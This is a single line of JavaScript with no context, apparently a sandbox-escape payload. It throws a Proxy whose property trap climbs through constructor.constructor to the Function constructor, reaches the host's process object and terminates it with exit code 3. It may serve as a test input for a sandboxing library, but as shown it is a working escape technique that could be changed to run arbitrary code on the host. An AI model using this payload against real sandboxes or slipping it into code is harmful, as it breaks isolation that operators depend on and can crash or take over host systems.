() => { throw new Proxy({}, {get(_, k) { return k.constructor.constructor("return process")().exit(3); }}); }
